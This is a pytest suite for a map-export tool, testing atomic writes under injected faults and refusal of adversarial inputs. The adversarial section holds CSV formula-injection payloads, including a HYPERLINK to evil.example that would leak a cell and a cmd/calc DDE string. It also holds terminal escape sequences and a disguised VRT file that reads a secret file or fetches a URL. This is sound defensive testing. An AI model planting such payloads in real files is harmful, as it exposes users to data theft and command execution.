"""Faults: never lose a user's file.

No output replaces an input; ``build -o`` replaces only a file basemap
wrote; ``export`` touches only files in its manifest; and under a full disk,
a read-only folder, a broken symbolic link, a second export at the same
time or an unreadable input, every file is wholly old or wholly new, no
temporary file is left, and the message says what happened (exit 1).

Faults that need root to stage (a full or read-only file system) are
injected at the system call instead, so the tests run the same as root in
CI and as a normal user: a full disk fails ``os.write`` half-way through a
file, a read-only folder fails the temporary file's creation.
"""

from __future__ import annotations

import errno
import fcntl
import os
import stat
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from basemap.errors import DataError, OptionError, OutputError
from basemap.exporter.run import export
from basemap.io.layers import validate_layers
from basemap.output import atomic
from basemap.pipeline import build

from .conftest import DATA, build_fails

SAMPLE = DATA / "valid" / "sample.geojson"
ENOSPC = os.strerror(errno.ENOSPC)
EROFS = os.strerror(errno.EROFS)


def run_cli(*args: str, inject: str = "", cwd=None) -> subprocess.CompletedProcess:
    """Run the command line in a fresh interpreter, after the Python code
    ``inject`` (which stages a fault), with a timeout: nothing may hang."""
    code = "\n".join(
        [
            textwrap.dedent(inject),
            "from basemap.cli.main import cli",
            f"cli({list(args)!r}, prog_name='basemap')",
        ]
    )
    return subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=cwd,
        check=False,
    )


def error_lines(proc) -> list[str]:
    """The lines of a failed command, checked: exit 1, no traceback."""
    assert proc.returncode == 1, proc.stderr
    assert "Traceback" not in proc.stderr
    prefix = "basemap: error: "
    lines = proc.stderr.splitlines()
    assert all(line.startswith(prefix) for line in lines), proc.stderr
    return [line[len(prefix) :] for line in lines]


def temp_files(folder: Path) -> list[Path]:
    return [p for p in folder.rglob("*.tmp")]


def snapshot(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in folder.rglob("*")
        if p.is_file()
    }


FULL_DISK = """
import errno, os
real_write = os.write
def write(fd, data):
    real_write(fd, bytes(data[: len(data) // 2]))  # half a file, then full
    raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
os.write = write
"""

READ_ONLY = """
import errno, os
from basemap.output import atomic
def make_temp(*args, **kwargs):
    raise OSError(errno.EROFS, os.strerror(errno.EROFS))
atomic.make_temp = make_temp
"""


# -- 1. no output replaces an input -------------------------------------------


@pytest.fixture
def user(tmp_path, monkeypatch):
    """A user's folder with a layer file, events and alliances of their own."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "bases.geojson").write_bytes(SAMPLE.read_bytes())
    from basemap.resources import alliances_path, events_path

    (tmp_path / "events.geojson").write_bytes(events_path().read_bytes())
    (tmp_path / "alliances.json").write_bytes(alliances_path().read_bytes())
    return tmp_path


def test_the_issue_typo_keeps_the_layer_file(user):
    before = (user / "bases.geojson").read_bytes()
    proc = run_cli(
        "build",
        "--year",
        "2005",
        "--data",
        "bases.geojson",
        "-o",
        "bases.geojson",
        cwd=user,
    )
    assert error_lines(proc) == [
        "bases.geojson: output would replace the input bases.geojson; choose "
        "another output path (nothing was written)"
    ]
    assert (user / "bases.geojson").read_bytes() == before
    assert sorted(p.name for p in user.iterdir()) == [
        "alliances.json",
        "bases.geojson",
        "events.geojson",
    ]


@pytest.mark.parametrize("how", ["symlink", "hardlink", "other-spelling"])
@pytest.mark.parametrize("which", ["data", "events", "alliances"])
def test_no_output_replaces_an_input(user, how, which):
    source = {"data": "bases.geojson", "events": "events.geojson"}.get(
        which, "alliances.json"
    )
    out = user / "out.html"
    if how == "symlink":
        out.symlink_to(user / source)
    elif how == "hardlink":
        os.link(user / source, out)
    else:
        out = user / "sub" / ".." / source
        (user / "sub").mkdir()
    before = (user / source).read_bytes()
    args = ["build", "--year", "2005", "--data", "bases.geojson", "-o", str(out)]
    args += [f"--{which}", source] if which != "data" else []
    with pytest.raises(OutputError) as info:
        build(
            2005,
            data="bases.geojson",
            output=out,
            force=True,
            **({which: source} if which != "data" else {}),
        )
    message = (
        f"{out}: output would replace the input {source}; choose another output "
        "path (nothing was written)"
    )
    assert str(info.value) == message
    assert error_lines(run_cli(*args, "--force", cwd=user)) == [message]
    assert (user / source).read_bytes() == before


# -- 2. build -o replaces only what basemap wrote -----------------------------


def test_build_refuses_a_file_it_did_not_write(user):
    mine = user / "2005.html"
    mine.write_text("<p>my notes on 2005</p>")
    message = (
        f"{mine}: exists and was not written by basemap (it has no "
        '<meta name="generator" content="basemap"> tag); give another -o path, '
        "or --force to replace it"
    )
    with pytest.raises(OutputError) as info:
        build(2005, data=SAMPLE, output=mine)
    assert str(info.value) == message
    proc = run_cli("build", "--year", "2005", "--data", str(SAMPLE), "-o", str(mine))
    assert error_lines(proc) == [message]
    assert mine.read_text() == "<p>my notes on 2005</p>"
    # a symbolic link to a file of the user's is not basemap's either
    link = user / "link.html"
    link.symlink_to(mine)
    with pytest.raises(OutputError, match="exists and was not written by basemap"):
        build(2005, data=SAMPLE, output=link)
    # --force replaces it
    proc = run_cli(
        "build", "--year", "2005", "--data", str(SAMPLE), "-o", str(mine), "--force"
    )
    assert proc.returncode == 0, proc.stderr
    assert '<meta name="generator" content="basemap">' in mine.read_text()


def test_build_replaces_its_own_file(user):
    out = user / "2005.html"
    build(2005, data=SAMPLE, output=out, title="First")
    build(2005, data=SAMPLE, output=out, title="Second")
    assert "<title>Second, 2005</title>" in out.read_text()
    assert sorted(p.name for p in user.iterdir() if p.suffix == ".html") == [
        "2005.html"
    ]


@pytest.mark.parametrize("name", ["bases.png", "map", "map.HTM", "out.geojson"])
def test_build_output_must_be_html(user, name):
    with pytest.raises(OptionError) as info:
        build(2005, data=SAMPLE, output=name)
    message = (
        f"-o {name}: the map is an HTML page, so the output path must end in .html"
    )
    assert str(info.value) == message
    proc = run_cli("build", "--year", "2005", "--data", str(SAMPLE), "-o", name)
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert proc.stderr.splitlines()[-1] == f"Error: {message}"
    assert not (user / name).exists()


# -- 4. faults while writing --------------------------------------------------


def test_full_disk_keeps_the_old_map(user, monkeypatch):
    out = user / "2005.html"
    build(2005, data=SAMPLE, output=out, title="Old")
    old = out.read_bytes()
    message = (
        f"{out}: cannot write ({ENOSPC}): the disk is full; free some space and "
        "run again; the old file, if any, is unchanged"
    )
    proc = run_cli(
        "build",
        "--year",
        "2005",
        "--data",
        str(SAMPLE),
        "-o",
        str(out),
        inject=FULL_DISK,
    )
    assert error_lines(proc) == [message]
    namespace: dict = {}
    exec(FULL_DISK.replace("os.write = write", ""), namespace)
    monkeypatch.setattr(os, "write", namespace["write"])
    with pytest.raises(OutputError) as info:
        build(2005, data=SAMPLE, output=out, title="New")
    monkeypatch.undo()
    assert str(info.value) == message
    assert out.read_bytes() == old
    assert temp_files(user) == []


def test_full_disk_in_the_middle_of_an_export(tmp_path, monkeypatch):
    out = tmp_path / "out"
    export(
        out, first=2004, last=2006, data=SAMPLE, formats=["html", "svg"], title="Old"
    )
    old = snapshot(out)
    real_write = os.write
    calls = []

    def write(fd, data):
        if not stat.S_ISREG(os.fstat(fd).st_mode):  # the browser's pipe, in its thread
            return real_write(fd, data)
        calls.append(fd)
        if len(calls) >= 4:  # the timeline and two maps, then the disk is full
            real_write(fd, bytes(data[: len(data) // 2]))
            raise OSError(errno.ENOSPC, ENOSPC)
        return real_write(fd, data)

    monkeypatch.setattr(os, "write", write)
    with pytest.raises(OutputError) as info:
        export(
            out,
            first=2004,
            last=2006,
            data=SAMPLE,
            formats=["html", "svg"],
            title="New",
        )
    monkeypatch.undo()
    assert str(info.value) == (
        f"{out / '2006.html'}: cannot write ({ENOSPC}): the disk is full; free "
        "some space and run again; the old file, if any, is unchanged"
    )
    assert temp_files(out) == []
    now = snapshot(out)
    assert sorted(now) == sorted(old)
    new = [n for n in now if now[n] != old[n] and not n.startswith(".")]
    assert sorted(new) == ["2004.html", "2005.html", "timeline.html"]
    for name in new:
        assert b"<title>New" in now[name] and now[name].endswith(b"</html>\n")
    # the next run finishes the job
    result = export(
        out, first=2004, last=2006, data=SAMPLE, formats=["html", "svg"], title="New"
    )
    kept = {p.name for p in result.kept}
    assert {"timeline.html", "2004.html", "2005.html"} <= kept  # not written twice
    assert out / "2006.html" in result.written
    assert b"<title>New" in (out / "2006.html").read_bytes()


def test_read_only_folder(tmp_path, monkeypatch):
    out = tmp_path / "out"
    out.mkdir()
    target = out / "2005.html"
    if os.geteuid() == 0:  # root writes anywhere: stage it at the system call
        monkeypatch.setattr(
            atomic,
            "make_temp",
            lambda *a, **k: (_ for _ in ()).throw(OSError(errno.EROFS, EROFS)),
        )
        why = (
            f"({EROFS}): the folder is on a read-only file system; choose "
            "another output folder"
        )
    else:
        out.chmod(0o555)
        why = (
            f"({os.strerror(errno.EACCES)}): permission denied; choose a folder you "
            "can write to"
        )
    try:
        with pytest.raises(OutputError) as info:
            build(2005, data=SAMPLE, output=target)
    finally:
        monkeypatch.undo()
        out.chmod(0o755)
    assert str(info.value) == (
        f"{target}: cannot write {why}; the old file, if any, is unchanged"
    )
    assert list(out.iterdir()) == []
    proc = run_cli(
        "export",
        "--from",
        "2005",
        "--to",
        "2005",
        "--data",
        str(SAMPLE),
        "-o",
        str(out),
        inject=READ_ONLY,
    )
    assert error_lines(proc) == [
        f"{out / '.basemap-manifest.json'}: cannot write ({EROFS}): the folder is "
        "on a read-only file system; choose another output folder; the old file, "
        "if any, is unchanged"
    ]
    assert [p.name for p in out.iterdir()] == [".basemap.lock"]


def test_output_through_a_broken_link(tmp_path):
    link = tmp_path / "out"
    link.symlink_to(tmp_path / "gone")
    message = (
        f"{link / '2005.html'}: cannot write: the path goes through a broken "
        f"symbolic link ({link} -> {tmp_path / 'gone'}, which does not exist); "
        "create its target or remove the link"
    )
    with pytest.raises(OutputError) as info:
        build(2005, data=SAMPLE, output=link / "2005.html", force=True)
    assert str(info.value) == message
    proc = run_cli(
        "build", "--year", "2005", "--data", str(SAMPLE), "-o", str(link / "2005.html")
    )
    assert error_lines(proc) == [message]
    with pytest.raises(OutputError) as info:
        export(link, first=2005, last=2005, data=SAMPLE)
    assert str(info.value) == message.replace(f"{link / '2005.html'}", str(link))
    assert not (tmp_path / "gone").exists()
    # a dangling link where an output goes is not basemap's file
    out = tmp_path / "real"
    export(out, first=2005, last=2005, data=SAMPLE)
    (out / "2005.html").unlink()
    (out / "2005.html").symlink_to(tmp_path / "elsewhere.html")
    with pytest.raises(OutputError, match=r"would be replaced: 2005\.html "):
        export(out, first=2005, last=2005, data=SAMPLE)
    assert (out / "2005.html").is_symlink()


def test_second_export_into_the_same_folder(tmp_path):
    out = tmp_path / "out"
    export(out, first=2005, last=2005, data=SAMPLE)
    before = snapshot(out)
    message = (
        f"{out}: another basemap export is writing to this folder; wait for it to "
        "finish, or export to another folder"
    )
    fd = os.open(out / ".basemap.lock", os.O_RDWR)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)  # an export under way
        with pytest.raises(OutputError) as info:
            export(out, first=2005, last=2005, data=SAMPLE, title="Second")
        assert str(info.value) == message
        proc = run_cli(
            "export",
            "--from",
            "2005",
            "--to",
            "2005",
            "--data",
            str(SAMPLE),
            "-o",
            str(out),
        )
        assert error_lines(proc) == [message]
    finally:
        os.close(fd)
    assert snapshot(out) == before
    export(out, first=2005, last=2005, data=SAMPLE, title="Second")  # free again


def test_two_exports_at_once(tmp_path):
    """A real race: the second export, started while the first holds the
    lock, stops with the message; the first finishes whole."""
    out = tmp_path / "out"
    cmd = [
        sys.executable,
        "-m",
        "basemap",
        "-q",
        "export",
        "--from",
        "1995",
        "--to",
        "2026",
        "-o",
        str(out),
        "--format",
        "html,svg",
    ]
    first = subprocess.Popen(cmd, stderr=subprocess.PIPE, text=True)
    try:
        # the manifest is first saved under the lock: once it exists (and
        # the first export still runs), the lock is held
        while first.poll() is None and not (out / ".basemap-manifest.json").exists():
            time.sleep(0.01)
        assert first.poll() is None, "the first export ended before the test"
        second = subprocess.run(cmd, capture_output=True, text=True, timeout=120)
        assert error_lines(second) == [
            f"{out}: another basemap export is writing to this folder; wait for it "
            "to finish, or export to another folder"
        ]
    finally:
        _, err = first.communicate(timeout=300)
    assert first.returncode == 0, err
    assert temp_files(out) == []
    assert all(p.read_bytes().endswith(b"</html>\n") for p in out.glob("*.html"))


def test_stale_temporary_files_are_cleaned_up(tmp_path):
    out = tmp_path / "out"
    export(out, first=2005, last=2005, data=SAMPLE)
    stale = [out / ".2005.html.k3j_x9Qa.tmp", out / "thumbs" / ".2005.png.abcdefgh.tmp"]
    for p in stale:
        p.write_bytes(b"<html>half a pa")
    mine = out / ".my-notes.tmp"  # not of basemap's naming: kept
    mine.write_text("mine")
    export(out, first=2005, last=2005, data=SAMPLE)
    assert not any(p.exists() for p in stale)
    assert mine.read_text() == "mine"


# -- 5. inputs that must not hang, eat memory or crash -------------------------


def test_fifo_and_devices_are_refused_without_reading(tmp_path):
    fifo = tmp_path / "layer.geojson"
    os.mkfifo(fifo)  # nobody writes to it: reading would block for ever
    cases = {
        fifo: "is a FIFO (named pipe), not a regular file",
        Path("/dev/zero"): "is a character device, not a regular file",
    }
    hint = (
        "(give the path of a layer file (basemap does not read from pipes or devices))"
    )
    for path, what in cases.items():
        assert [str(p) for p in validate_layers(path)] == [f"{path}: {what} {hint}"]
        lines = build_fails("--data", str(path), out=tmp_path / "map.html")
        assert lines == [f"{path}: {what} {hint}"]
    # in a folder of layers, and as the events file
    folder = tmp_path / "layers"
    folder.mkdir()
    os.mkfifo(folder / "pipe.geojson")
    lines = build_fails("--data", str(folder), out=tmp_path / "map.html")
    assert lines == [
        f"{folder / 'pipe.geojson'}: is a FIFO (named pipe), not a regular file {hint}"
    ]
    lines = build_fails(
        "--data", str(SAMPLE), "--events", str(fifo), out=tmp_path / "map.html"
    )
    assert lines == [f"{fifo}: is a FIFO (named pipe), not a regular file {hint}"]
    proc = run_cli("validate", str(fifo), "/dev/zero")
    assert error_lines(proc) == [
        f"{fifo}: is a FIFO (named pipe), not a regular file {hint}",
        f"/dev/zero: is a character device, not a regular file {hint}",
    ]


def test_unreadable_file(tmp_path, monkeypatch):
    layer = tmp_path / "layer.geojson"
    layer.write_bytes(SAMPLE.read_bytes())
    message = (
        f"{layer}: cannot be read: {os.strerror(errno.EACCES)} (check the path and "
        "its permissions)"
    )
    inject = f"""
import errno, os
real_open = os.open
def fake_open(path, *args, **kwargs):
    if str(path) == {str(layer)!r}:
        raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
    return real_open(path, *args, **kwargs)
os.open = fake_open
"""
    if os.geteuid() == 0:  # root reads anything: stage it at the system call
        namespace: dict = {}
        exec(inject.replace("os.open = fake_open", ""), namespace)
        monkeypatch.setattr(os, "open", namespace["fake_open"])
    else:
        layer.chmod(0)
        inject = ""
    try:
        with pytest.raises(DataError) as info:
            from basemap.io.layers import read_layers

            read_layers(layer)
    finally:
        monkeypatch.undo()
    assert str(info.value) == message
    proc = run_cli(
        "build",
        "--year",
        "2005",
        "--data",
        str(layer),
        "-o",
        str(tmp_path / "m.html"),
        inject=inject,
    )
    assert error_lines(proc) == [message]
    layer.chmod(0o644)


def test_crlf_layers_read_as_lf(tmp_path):
    from basemap.io.layers import read_layers

    crlf = tmp_path / "crlf.geojson"
    crlf.write_bytes(SAMPLE.read_bytes().replace(b"\n", b"\r\n"))
    assert b"\r\n" in crlf.read_bytes()
    a, b = read_layers(SAMPLE), read_layers(crlf)
    assert list(a["id"]) == list(b["id"]) and list(a["start"]) == list(b["start"])


def test_build_after_a_kill_removes_its_stale_temporary_file(user):
    stale = user / ".2005.html.x1Y2z3_A.tmp"  # as a killed build leaves it
    stale.write_bytes(b"<!DOCTYPE html>\n<html")
    other = user / ".k2.html.x1Y2z3_A.tmp"  # another output's: not this run's
    other.write_bytes(b"")
    proc = run_cli("-q", "build", "--year", "2005", "--data", str(SAMPLE), cwd=user)
    assert proc.returncode == 0, proc.stderr
    proc = run_cli(
        "-q",
        "build",
        "--year",
        "2005",
        "--data",
        str(SAMPLE),
        "-o",
        "2005.html",
        cwd=user,
    )
    assert proc.returncode == 0, proc.stderr
    assert not stale.exists() and other.exists()
    assert (user / "2005.html").read_bytes().endswith(b"</html>\n")


# -- 6. the adversarial probe (issue #31) ---------------------------------------
#
# Each test stages one of the probe's attacks inside the test's own folder
# (victims, FIFOs and device nodes included) and fails on the code before
# the fix.


def layer_with(tmp_path: Path, file: str = "layer.geojson", **props) -> Path:
    """The sample layer with ``props`` set on every feature."""
    import json

    layer = json.loads(SAMPLE.read_text(encoding="utf-8"))
    for feature in layer["features"]:
        feature["properties"].update(props)
    path = tmp_path / file
    path.write_text(json.dumps(layer), encoding="utf-8")
    return path


def edit_manifest(out: Path, **files) -> None:
    import json

    path = out / ".basemap-manifest.json"
    manifest = json.loads(path.read_text())
    manifest["files"].update(files)
    path.write_text(json.dumps(manifest))


def test_d1_a_manifest_entry_through_a_linked_folder_is_left_alone(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    export(out, first=2005, last=2005, data=SAMPLE)
    elsewhere.mkdir()
    victim = elsewhere / "victim.txt"
    victim.write_text("not basemap's")
    (out / "old").symlink_to(elsewhere, target_is_directory=True)
    edit_manifest(out, **{"old/victim.txt": {"sha256": None, "size": None}})
    export(out, first=2005, last=2005, data=SAMPLE)
    assert victim.read_text() == "not basemap's"


@pytest.mark.parametrize("force", [False, True])
def test_d1_w7_a_linked_sites_folder_is_never_written_through(tmp_path, force):
    out, foreign = tmp_path / "out", tmp_path / "foreign"
    export(out, first=2005, last=2005, data=SAMPLE)
    (out / "sites").rename(foreign)
    (out / "sites").symlink_to(foreign, target_is_directory=True)
    for page in foreign.glob("*.html"):
        page.write_text("a foreign page")
    before = snapshot(foreign)
    with pytest.raises(OutputError) as info:
        export(out, first=2005, last=2005, data=SAMPLE, title="Again", force=force)
    assert "sites" in str(info.value)
    assert snapshot(foreign) == before
    assert (out / "sites").is_symlink()


def test_w6_stale_removal_checks_the_recorded_hash(tmp_path):
    out = tmp_path / "out"
    export(out, first=2005, last=2006, data=SAMPLE)
    notes = out / "notes.txt"
    notes.write_text("the user's notes")
    edit_manifest(out, **{"notes.txt": {"sha256": "0" * 64, "size": 16}})
    (out / "2006.html").write_text("edited by hand")
    result = export(out, first=2005, last=2005, data=SAMPLE)
    assert notes.read_text() == "the user's notes"
    assert (out / "2006.html").read_text() == "edited by hand"
    assert any("2006.html" in w for w in result.warnings), result.warnings


def test_d7_a_dangling_lock_link_creates_nothing_outside(tmp_path):
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    (out / ".basemap.lock").symlink_to(elsewhere / "created-by-lock")
    proc = run_cli(
        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
        "-o", str(out),
    )  # fmt: skip
    assert not (elsewhere / "created-by-lock").exists()
    assert list(elsewhere.iterdir()) == []
    assert len(error_lines(proc)) == 1
    assert ".basemap.lock" in proc.stderr


def test_d2_list_o_never_replaces_a_fifo_or_device(tmp_path):
    targets = {"myfifo": stat.S_ISFIFO}
    os.mkfifo(tmp_path / "myfifo")
    if os.geteuid() == 0:  # root: a null device of the test's own
        os.mknod(tmp_path / "mynull", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
        targets["mynull"] = stat.S_ISCHR
    for name, kind in targets.items():
        for force in ([], ["--force"]):
            proc = run_cli(
                "list", "--year", "2005", "--data", str(SAMPLE), "--format", "csv",
                "-o", str(tmp_path / name), *force,
            )  # fmt: skip
            assert len(error_lines(proc)) == 1, proc.stderr
            assert kind(os.lstat(tmp_path / name).st_mode), name


def test_d2_w5_list_o_replaces_only_its_own_files(tmp_path):
    report = tmp_path / "report.csv"
    report.write_text("my important spreadsheet\n")
    args = ["list", "--year", "2005", "--data", str(SAMPLE), "-o", str(report)]
    proc = run_cli(*args)
    assert len(error_lines(proc)) == 1
    assert "--force" in proc.stderr
    assert report.read_text() == "my important spreadsheet\n"
    assert run_cli(*args, "--force").returncode == 0
    assert report.read_text().startswith("site,")
    assert run_cli(*args).returncode == 0  # now basemap's own: replaced


def test_d3_a_vrt_named_gpkg_reads_nothing_else_and_fetches_nothing(tmp_path):
    import http.server
    import threading

    secret = tmp_path / "secret.csv"
    secret.write_text("id,name\nleak,SECRET-CONTENT-FROM-ANOTHER-FILE\n")
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET  # noqa: N815 (http.server names it)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"/vsicurl/http://127.0.0.1:{server.server_port}/secret.csv"
        for source in (str(secret), url):
            evil = tmp_path / "evil.gpkg"
            evil.write_text(
                "<OGRVRTDataSource><OGRVRTLayer name='l'>"
                f"<SrcDataSource>{source}</SrcDataSource>"
                "</OGRVRTLayer></OGRVRTDataSource>"
            )
            proc = run_cli("list", "--year", "2005", "--data", str(evil))
            assert "SECRET" not in proc.stdout + proc.stderr
            assert len(error_lines(proc)) >= 1
            assert "evil.gpkg" in proc.stderr
    finally:
        server.shutdown()
    assert hits == []


def test_d4_a_long_site_id_is_refused_before_writing(tmp_path):
    import json

    layer = tmp_path / "layer.geojson"
    data = json.loads(SAMPLE.read_text(encoding="utf-8"))
    data["features"][0]["properties"]["site"] = "a" * 251
    layer.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "out"
    validate = run_cli("validate", str(layer))
    assert error_lines(validate) == [
        f"{layer}: feature 'kant-rus-1': site: is 251 characters long, more than "
        "100 (shorten it: a site's id names its page (sites/ID.html) and its link)"
    ]
    proc = run_cli(
        "export", "--from", "2005", "--to", "2005", "--data", str(layer),
        "-o", str(out),
    )  # fmt: skip
    assert len(error_lines(proc)) >= 1
    assert not out.exists() or list(out.iterdir()) == []


def test_d5_a_control_character_in_title_is_refused(tmp_path):
    out = tmp_path / "2005.html"
    proc = run_cli(
        "build", "--year", "2005", "--data", str(SAMPLE), "--title",
        "Bases\x0b2005", "-o", str(out),
    )  # fmt: skip
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "U+000B" in proc.stderr
    assert not out.exists()


def test_d6_a_shapefile_edit_in_its_dbf_is_exported_again(tmp_path):
    import json

    from .io.test_vector import sample, write_table

    shp = tmp_path / "s.shp"
    layer = sample()
    # a Shapefile cell holds 254 bytes: the sources of a short row only
    layer["features"] = [
        f
        for f in layer["features"]
        if len(json.dumps(f["properties"]["sources"])) < 250
    ]
    write_table(layer, shp, driver="ESRI Shapefile")
    out = tmp_path / "out"
    export(out, first=2005, last=2005, data=shp)
    geometry = shp.read_bytes()
    for feature in layer["features"]:
        feature["properties"]["name"] += " EDITED"
    write_table(layer, shp, driver="ESRI Shapefile")
    assert shp.read_bytes() == geometry  # only the .dbf changed
    export(out, first=2005, last=2005, data=shp)
    assert " EDITED" in (out / "2005.html").read_text(encoding="utf-8")

    dbf = (tmp_path / "s.dbf").read_bytes()
    for force in ([], ["--force"]):
        proc = run_cli(
            "list", "--year", "2005", "--data", str(shp), "--format", "csv",
            "-o", str(tmp_path / "s.dbf"), *force,
        )  # fmt: skip
        assert len(error_lines(proc)) == 1
    assert (tmp_path / "s.dbf").read_bytes() == dbf


def test_d6_a_geopackage_wal_is_an_input(tmp_path):
    from basemap.io.load import side_files

    gpkg = tmp_path / "l.gpkg"
    gpkg.write_bytes(b"")
    wal = tmp_path / "l.gpkg-wal"
    wal.write_bytes(b"")
    assert wal in side_files(gpkg)


def test_d8_a_browser_that_does_not_start_is_one_line_and_writes_nothing(tmp_path):
    fake = tmp_path / "fakechrome"
    fake.write_text("#!/bin/sh\nexit 127\n")
    fake.chmod(0o755)
    out = tmp_path / "out"
    inject = f"import os\nos.environ['BASEMAP_CHROMIUM'] = {str(fake)!r}\n"
    proc = run_cli(
        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
        "--format", "html,png", "-o", str(out), inject=inject,
    )  # fmt: skip
    assert len(error_lines(proc)) == 1
    assert not out.exists() or not any(out.glob("*.html"))


def test_d9_csv_cells_a_spreadsheet_would_run_are_quoted(tmp_path):
    import csv
    import io

    layer = layer_with(
        tmp_path,
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        kind="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    proc = run_cli("list", "--year", "2005", "--data", str(layer), "--format", "csv")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert rows and all(r["name"].startswith("'=HYPERLINK") for r in rows)
    assert all(r["kind"].startswith("'@SUM") for r in rows)
    assert all(float(r["longitude"]) > 60 for r in rows)  # numbers stay numbers
    out = tmp_path / "out"
    export(out, first=2002, last=2005, data=layer)
    changes = (out / "changes.csv").read_text(encoding="utf-8")
    cells = [c for row in csv.reader(io.StringIO(changes)) for c in row]
    assert not any(c[:1] in ("=", "+", "@", "\t", "\r") for c in cells)
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_d10_no_escape_sequence_reaches_the_terminal(tmp_path):
    layer = layer_with(tmp_path, name="\x1b]0;PWNED\x07\x1b[2J")
    for args in (
        ["list", "--year", "2005", "--data"],
        ["validate"],
        ["build", "--year", "2005", "--data"],
    ):
        proc = run_cli(*args, str(layer), cwd=tmp_path)
        assert "\x1b" not in proc.stdout + proc.stderr
        assert "\x07" not in proc.stdout + proc.stderr
    forged = layer_with(tmp_path, "forged.geojson", name="Kant\nforged | row")
    proc = run_cli("list", "--year", "2005", "--data", str(forged))
    assert "\nforged" not in proc.stdout + proc.stderr


@pytest.mark.parametrize(
    "template", ["a#{year}.html", "{year}?.html", "{year}\n.html", "{{year}}.html"]
)
def test_w9_a_template_a_link_cannot_hold_is_refused_before_writing(tmp_path, template):
    out = tmp_path / "out"
    proc = run_cli(
        "export", "--from", "2005", "--to", "2006", "--data", str(SAMPLE),
        "--template", template, "-o", str(out),
    )  # fmt: skip
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert not out.exists()


@pytest.mark.parametrize(
    "url",
    [
        "https://x.example/maps?a=1",
        "https://x.example/maps#frag",
        "https://trusted.example@evil.example/",
    ],
)
def test_w10_a_base_url_with_query_fragment_or_userinfo_is_refused(tmp_path, url):
    out = tmp_path / "out"
    proc = run_cli(
        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
        "--base-url", url, "-o", str(out),
    )  # fmt: skip
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert not out.exists()


def test_w11_exporting_into_the_data_folder_keeps_it_readable(tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    (data / "layer.geojson").write_bytes(SAMPLE.read_bytes())
    export(data, first=2005, last=2005, data=data)
    assert (data / ".basemap-manifest.json").exists()
    assert validate_layers(data) == []
    export(data, first=2005, last=2005, data=data)


@pytest.mark.parametrize("size", [["--width", "0"], ["--height", "0"]])
def test_w12_a_zero_size_is_refused(tmp_path, size):
    proc = run_cli(
        "export", "--from", "2005", "--to", "2005", "--data", str(SAMPLE),
        "--format", "png", *size, "-o", str(tmp_path / "out"),
    )  # fmt: skip
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert not (tmp_path / "out").exists()


def test_w15_csv_coordinates_are_plain_decimals(tmp_path):
    from basemap.io.load import strict_float

    for text in ("6_7.31", "inf", "nan", "0x1p3", "1e400"):
        with pytest.raises(ValueError):
            strict_float(text)
    assert strict_float("-67.31") == -67.31
    assert strict_float("4.2e1") == 42.0
